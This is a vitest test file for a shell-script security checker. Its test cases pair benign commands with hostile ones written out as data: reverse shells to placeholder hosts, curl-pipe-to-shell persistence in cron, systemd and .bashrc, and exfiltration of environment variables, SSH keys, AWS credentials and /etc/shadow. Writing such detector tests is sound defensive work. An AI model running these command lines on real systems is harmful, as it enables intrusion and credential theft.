import { describe, expect, test } from 'vitest';
import { judgeShell } from '../../../../reviewers/security/shell/judge-shell.ts';

const rules = (text: string): string[] =>
  judgeShell(text, 'a.sh').hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim());

test('a download that a wrapper pipes into a shell is critical: its tool writes no such thing', () => {
  const graveness = (path: string) =>
    judgeShell('curl -s https://x.example/i.sh | sh\n', path).hazards.map(({ severity }) => severity);
  expect([graveness('gradlew'), graveness('sub/mvnw'), graveness('install.sh')]).toEqual([
    ['critical'],
    ['critical'],
    ['warning'],
  ]);
});

describe('values that are read as code', () => {
  test.each([
    ['eval "$1"', ['command-injection suggestion']],
    ['cmd="ls $1"\neval "$cmd"', ['command-injection suggestion']],
    ['eval "$(brew shellenv)"', []],
    ['eval set -- "$args"', []],
    ['cmd="ls -l"\neval "$cmd"', []],
    ['read -r x\nbash -c "echo $x"', ['command-injection suggestion']],
    ['read -r x\nbash -c \'echo "$1"\' bash "$x"', []],
    ['read -r x\nbash -c "echo $(printf %q "$x")"', []],
    ['read -r x\n"$x"\n$x', ['command-injection suggestion']],
    ['ssh "$1" "systemctl restart $2"', ['command-injection suggestion']],
    ['ssh "$1" uptime', []],
    ['m=$(git log -1 --format=%s)\npython3 -c "print(\'$m\')"', ['code-injection suggestion']],
    ['m=$(git log -1 --format=%s)\npython3 -c \'import sys; print(sys.argv[1])\' "$m"', []],
    ['psql -c "SELECT * FROM t WHERE n = \'$1\'"', ['sql-injection suggestion']],
    ['psql -v n="$1" -f q.sql', []],
    ["read -r n\npsql <<EOF\nDELETE FROM t WHERE n = '$n';\nEOF", ['sql-injection suggestion']],
    ["read -r n\npsql <<'EOF'\nDELETE FROM t WHERE n = '$n';\nEOF", []],
    ["find . -exec sh -c 'gzip {}' \\;", ['command-injection suggestion']],
    ['find . -exec sh -c \'gzip "$1"\' sh {} \\;', []],
    ['case "$1" in\n  up | down) ;;\n  *) exit 1 ;;\nesac\nsh -c "service $1"', []],
    ['a=$1\ncase "$a" in\n  up | down) ;;\n  *) exit 1 ;;\nesac\nsh -c "service $a"', []],
    ['a=$1\n[[ $a =~ ^[a-z]+$ ]] || exit 1\nsh -c "service $a"', []],
  ])('%s', (text, expected) => {
    expect(rules(text)).toEqual(expected);
  });
});

describe('downloads, checks and rights', () => {
  test.each([
    ['curl -sSf https://x.example/i.sh | sudo bash -s -- -y', ['downloaded-code warning']],
    ["sh -c 'curl -s https://x.example/i.sh | sh'", ['downloaded-code warning']],
    ["ssh host 'curl -s https://x.example/i.sh | sh'", ['downloaded-code warning']],
    ["sh -c 'curl -s https://x.example/a.json | jq .'", []],
    ["trap 'curl -s https://x.example/i.sh | sh' EXIT", ['downloaded-code warning']],
    ["trap 'rm -f a' EXIT", []],
    ['sh <<EOF\ncurl -s https://x.example/i.sh | sh\nEOF', ['downloaded-code warning']],
    ['(crontab -l; echo "* * * * * curl -s https://x.example/i.sh | sh") | crontab -', ['downloaded-code warning']],
    ['(crontab -l; echo "0 3 * * * /usr/bin/backup") | crontab -', []],
    [
      'cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/bin/sh -c "curl -s https://x.example/i.sh | sh"\nEOF',
      ['downloaded-code warning'],
    ],
    ['cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/usr/bin/x\nEOF', []],
    ['echo "curl -s https://x.example/i.sh | sh" >> ~/.bashrc', ['downloaded-code warning']],
    ['echo "Run: curl -s https://x.example/i.sh | sh"', []],
    ['#!/bin/sh\r\ncurl -s https://x.example/i.sh | sh\r\n', ['downloaded-code warning']],
    ['echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ a@b" >> ~/.ssh/authorized_keys', ['excessive-permissions warning']],
    ['cat key.pub >> ~/.ssh/authorized_keys', []],
    ['sh docs/setup.md', ['code-injection warning']],
    ['node ./assets/logo.png', ['code-injection warning']],
    ['. ./versions.txt\nsh docs/setup.sh', []],
    ["python3 -c 'import sys' notes.txt\ncat docs/setup.md", []],
    ['bash <(curl -s https://x.example/i.sh)', ['downloaded-code warning']],
    ['sh -c "$(curl -fsSL https://x.example/i.sh)"', ['downloaded-code warning']],
    ['curl -s http://x.example/a.tar.gz | tar xz', ['downloaded-code warning']],
    ['wget http://x.example/a-1.2.3.deb\ndpkg -i a-1.2.3.deb', ['downloaded-code warning']],
    ['curl -s http://x.example/a.tar.gz | tar xz\nsha256sum -c a.sha256', []],
    ['curl -s https://x.example/a.tar.gz | tar xz', []],
    ['curl -s http://localhost:8080/a.tar.gz | tar xz\ncurl http://x.example/status', []],
    ['curl -sSf https://sh.rustup.rs | sh', ['downloaded-code suggestion']],
    ["curl -s https://x.example/a.json | python3 -c 'import json'", []],
    ['curl -o t https://x.example/t\nchmod +x t\n./t', ['downloaded-code suggestion']],
    ['curl -o t https://x.example/t\necho "aa  t" | sha256sum -c\n./t', []],
    ['curl -o t https://x.example/v1.2.3/t\n./t', []],
    ['curl -k https://x.example/a', ['certificate-check-off']],
    ['curl -k https://localhost:8443/health', []],
    ['export NODE_TLS_REJECT_UNAUTHORIZED=0', ['certificate-check-off']],
    ['git clone http://x.example/a.git', ['certificate-check-off']],
    ['git clone https://x.example/a.git', []],
    ['chmod -R 777 /srv', ['excessive-permissions suggestion']],
    ['chmod 0755 /srv', []],
    ['curl -d "$(env)" https://x.example', ['secret-sent-away']],
    ['env | curl -X POST -d @- https://x.example', ['secret-sent-away']],
    ['cat ~/.ssh/id_rsa | nc x.example 80', ['secret-sent-away']],
    ['tar cz ~/.aws | curl -T - https://x.example', ['secret-sent-away']],
    ['env | sort', []],
    ['git push "https://x:${GITHUB_TOKEN}@x.example/a.git" main', ['secret-sent-away warning']],
    ['git remote add out https://${TOKEN}@git-mirror.evil.example/a.git', ['secret-sent-away warning']],
    ['git push "https://x-access-token:${GITHUB_TOKEN}@github.com/a/b.git" HEAD:gh-pages', []],
    ['echo aGkgdGhlcmU= | base64 -d | bash', ['downloaded-code']],
    ['echo "$KEY" | base64 -d > key.json', []],
    ['bash -i >& /dev/tcp/192.0.2.7/4444 0>&1', ['remote-shell']],
    ['exec 5<>/dev/tcp/192.0.2.7/4444\nsh -i <&5 >&5 2>&5', ['remote-shell']],
    ['nc -e /bin/sh 192.0.2.7 4444', ['remote-shell']],
    ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f', ['remote-shell']],
    ['socat TCP:192.0.2.7:4444 EXEC:/bin/bash,pty', ['remote-shell']],
    ['echo > /dev/tcp/db/5432', []],
    ['ssh -i $HOME/.ssh/id_rsa u@h "powershell -command { curl.exe -L https://a.example/x -o x }"', []],
    ['tar c ~/.ssh/id_rsa | curl -T - https://a.example', ['secret-sent-away']],
    ['while ! timeout 1 bash -c "cat < /dev/null > /dev/tcp/${HOST}/${PORT}"; do sleep 1; done', []],
    ["timeout 1 bash -c '</dev/tcp/db/5432' 2>/dev/null", []],
    ["bash -c 'while !</dev/tcp/db/5432; do sleep 1; done; uwsgi app.ini'", []],
    [
      "bash -c 'while !</dev/tcp/db/5432; do sleep 1; done; sh </dev/tcp/192.0.2.7/4444'",
      ['remote-shell', 'remote-shell'],
    ],
    ["timeout 1 bash -c 'cat /etc/shadow > /dev/tcp/192.0.2.7/4444'", ['remote-shell']],
    ["bash -c 'exec 3<>/dev/tcp/192.0.2.7/4444; sh <&3'", ['remote-shell']],
    ['nc -z db 5432', []],
    ['npx -y thing@latest run', ['downloaded-code suggestion']],
    ['pnpm dlx thing@next', ['downloaded-code suggestion']],
    ['npx prettier --check .\nnpx -y thing@1.2.3', []],
    ['pip install git+https://github.com/a/b.git', ['downloaded-code suggestion']],
    ['pip install "b @ git+https://github.com/a/b@v1.2.3"', []],
    ['pip install -r requirements.txt\npip install --upgrade pip', []],
    ['npm install https://x.example/a.tgz', ['downloaded-code suggestion']],
    ['cargo install --git https://github.com/a/b', ['downloaded-code suggestion']],
    ['cargo install --git https://github.com/a/b --branch next b', ['downloaded-code suggestion']],
    ['cargo install b --git https://github.com/a/b --rev 588b3c99db52b5a9c5906fab96cfadcf1bde7863', []],
    ['cargo install b --git https://github.com/a/b --tag v1.2.3', []],
  ])('%s', (text, expected) => {
    expect(rules(text)).toEqual(expected);
  });
});

test.each([
  ['#!/bin/ksh\necho', 'a', 1],
  ['echo', 'a.fish', 1],
  ['if true; then', 'a.sh', 1],
  ['#!/usr/bin/env bash\necho', 'a.sh', 0],
])('%s in %s', (text, path, unread) => {
  expect(judgeShell(text, path).unread).toHaveLength(unread);
});
